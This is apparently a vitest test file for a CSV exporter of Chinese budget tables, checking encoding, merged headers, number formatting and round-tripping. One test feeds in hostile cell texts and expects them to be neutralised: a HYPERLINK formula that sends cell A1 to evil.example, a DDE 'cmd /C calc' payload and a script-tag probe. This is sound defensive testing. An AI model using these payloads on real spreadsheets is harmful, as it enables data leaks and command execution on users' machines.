import Decimal from 'decimal.js';
import { describe, expect, it } from 'vitest';
import { fixtureGrids, HOSTILE_TEXTS, hostileTable, incomeTable, performanceTable } from '../../test/export/fixtures.ts';
import { readCsv } from '../../test/export/read-csv.ts';
import { codeColumns } from './export-cells.ts';
import { tableCsv, tableCsvText } from './csv.ts';

function decode(bytes: Uint8Array): string {
  // ignoreBOM keeps the BOM in the string, so the test can see it.
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
}

const q = (value: string) => ({ value, quoted: true });
const n = (value: string) => ({ value, quoted: false });

describe('tableCsv', () => {
  it('starts with the UTF-8 byte-order mark', () => {
    const bytes = tableCsv(incomeTable());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(decode(bytes).slice(1)).toBe(tableCsvText(incomeTable()));
  });

  it('writes the merged header in every column it covers, and the rows as printed', () => {
    const rows = readCsv(tableCsvText(incomeTable()));
    expect(rows).toHaveLength(8);
    expect(rows[0]).toEqual([
      q('功能分类科目编码'),
      q('功能分类科目编码'),
      q('功能分类科目编码'),
      q('功能分类科目名称'),
      q('总 计'),
      q('财 政 拨 款 ( 补 助 )'),
      q('财 政 拨 款 ( 补 助 )'),
      q('单 位 资 金'),
    ]);
    expect(rows[1]).toEqual([
      q('类'),
      q('款'),
      q('项'),
      q('功能分类科目名称'),
      q('总 计'),
      q('财政拨款 (补助)小 计'),
      q('一般公共 预算'),
      q('单 位 资 金'),
    ]);
    // Codes quoted as text, amounts bare with their two decimals, blank cells empty.
    expect(rows[4]).toEqual([q('201'), q('03'), q('01'), q('行政运行'), n('414.94'), n('317.92'), n('317.92'), n('97.02')]);
    expect(rows[6]).toEqual([q('208'), n(''), n(''), q('社会保障和就业支出'), n('65.10'), n('65.10'), n('65.10'), n('')]);
    // Both pieces of the split table are there, the 合计 row last.
    expect(rows[7]).toEqual([n(''), n(''), n(''), q('合 计'), n('515.38'), n('418.36'), n('418.36'), n('97.02')]);
  });

  it('writes numbers raw and neutralises text that would run as a formula', () => {
    const rows = readCsv(tableCsvText(hostileTable()));
    const amounts = rows.slice(1).map((r) => r[2]);
    expect(amounts).toEqual([
      n('1566.00'),
      n('-3.20'),
      n('-12.50'),
      n('12.5%'),
      n(''),
      n(''),
      q('12.3.4'),
      n('0.5'),
      n('1234567.89'),
      n('7'),
      n('100'),
    ]);
    const labels = rows.slice(1).map((r) => r[1]);
    expect(labels).toEqual([
      q(`'=HYPERLINK("http://evil.example/?leak="&A1,"点我")`),
      q("'+1+cmd|' /C calc'!A0"),
      q("'@x"),
      q("'-2+3"),
      q('<script>alert(1)</script>'),
      q('"三公"经费'),
      q('行政\n运行'),
      q('a|b'),
      q('tab\there'),
      q('cr\rhere'),
      // Leading whitespace is trimmed from cells; the formula under it is still caught.
      q("'=1+1"),
    ]);
    expect(rows[1][0]).toEqual(q('2010301'));
    expect(rows[1][3]).toEqual(q('03'));
  });

  it('no bare field ever starts a formula (every hostile text checked)', () => {
    for (const row of readCsv(tableCsvText(hostileTable()))) {
      for (const field of row) {
        if (field.quoted) expect(field.value).not.toMatch(/^[=+@\t\r]/);
        else expect(field.value).toMatch(/^(-?\d+(\.\d+)?%?)?$/);
      }
    }
    expect(HOSTILE_TEXTS.length).toBeGreaterThan(5);
  });

  it('writes a merged label in each covered cell but a merged amount once', () => {
    const rows = readCsv(tableCsvText(performanceTable()));
    expect(rows[2]).toEqual([q('项目资金 (万元)'), q('年度预算总额:'), n('90'), n(''), q('其中: 财政拨款'), n('90')]);
    expect(rows[6]).toEqual([q('产出指标'), q('质量指标'), q('资金保障率'), q("'=100%"), q("'=100%"), n('5')]);
    expect(rows[5][1]).toEqual(q('数量指标'));
  });

  it('round-trips every table of the three fixture pages', () => {
    let checked = 0;
    for (const page of fixtureGrids()) {
      for (const grid of page.tables) {
        const rows = readCsv(tableCsvText(grid));
        expect(rows).toHaveLength(grid.rows.length);
        const codes = codeColumns(grid);
        grid.rows.forEach((row, r) => {
          expect(rows[r]).toHaveLength(grid.width);
          row.forEach((cell, c) => {
            const field = rows[r][c];
            const origin = grid.rows[cell.originRow][cell.originCol];
            const covered = cell.originRow !== r || cell.originCol !== c;
            if (field.quoted) {
              expect(field.value.replace(/^'(?=[=+\-@\s])/, '')).toBe(origin.text.trim());
            } else if (field.value === '') {
              expect(origin.value.kind === 'blank' || (covered && origin.value.kind === 'number')).toBe(true);
            } else {
              expect(origin.value.kind).toBe('number');
              expect(codes[c]).toBe(false);
              if (origin.value.kind === 'number') {
                expect(new Decimal(field.value.replace('%', '')).eq(origin.value.amount.value)).toBe(true);
              }
            }
            checked++;
          });
        });
      }
    }
    expect(checked).toBeGreaterThan(3000);
  });
});
